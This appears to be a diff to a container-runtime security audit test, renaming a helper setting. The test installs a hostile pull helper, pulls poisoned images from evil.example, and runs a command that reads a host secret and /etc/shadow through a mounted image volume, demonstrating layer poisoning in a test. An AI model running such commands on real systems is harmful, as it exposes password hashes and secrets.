@@ -10,7 +10,7 @@ with node() as (rt, client, pods):
                "poison": {"diffs": [hexs(small)]},                          # the diff id of somebody else's image, which is not here yet
                "link": {"diffs": [hexs(b"one"), hexs(b"two")]}}, open("/run/evil-plan.json", "w"))
     rt.stop()
-    rt.settings["pullHelper"] = "/nodens/tests/audit/evil_helper.py"
+    rt.settings["fetchHelper"] = "/nodens/tests/audit/evil_helper.py"
     client = rt.start(); pods.client = client; pods.pb, pods.runtime = client.pb, client.runtime
     for name in ("evil.example/poison:1", "evil.example/link:1"):
         try: print("pull by the taken-over helper:", client.pull(name)[:30])
@@ -25,7 +25,7 @@ with node() as (rt, client, pods):
         one = pod.container(mounts=[m], name="b")
         r = one.execute("ls /mnt; cat /mnt/run/host-secret; cat /mnt/etc/shadow | head -2"); print("image volume of evil.example/link:1:", r.stdout, r.stderr)
     except Exception as e: print("b:", str(getattr(e, "details", lambda: e)())[:300])
-    rt.stop(); del rt.settings["pullHelper"]
+    rt.stop(); del rt.settings["fetchHelper"]
     client = rt.start(); pods.client = client; pods.pb, pods.runtime = client.pb, client.runtime
     # 1. an honest image of another registry that has the layer: its contents are the attacker's
     load(rt, "honest.example/app:1", [small])
